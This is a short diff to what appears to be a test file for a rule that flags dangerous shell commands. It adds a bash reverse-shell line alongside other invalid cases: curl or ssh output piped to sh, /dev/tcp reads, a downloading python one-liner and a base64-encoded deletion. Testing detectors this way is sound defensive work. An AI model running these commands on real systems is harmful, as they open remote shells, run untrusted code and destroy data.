@@ -83,6 +83,7 @@ const invalid: Invalid[] = [
   { cmd: 'docker exec app sh -c "curl -s https://example.com/x | sh"', ruleId: R },
   { cmd: 'ssh host cat /tmp/x.sh | sh', note: 'output of another machine', ruleId: R },
   { cmd: 'bash < /dev/tcp/203.0.113.7/4444', ruleId: R },
+  { cmd: 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', note: 'a reverse shell', ruleId: R },
   { cmd: `python3 -c "import urllib.request as u; print(u.urlopen('https://x').read().decode())" | sh`, note: 'an interpreter that downloads', ruleId: R },
   // Decoded or scrambled code.
   { cmd: 'echo cm0gLXJmIC90bXAveA== | base64 -d | sh', ruleId: R, messageId: 'decode' },
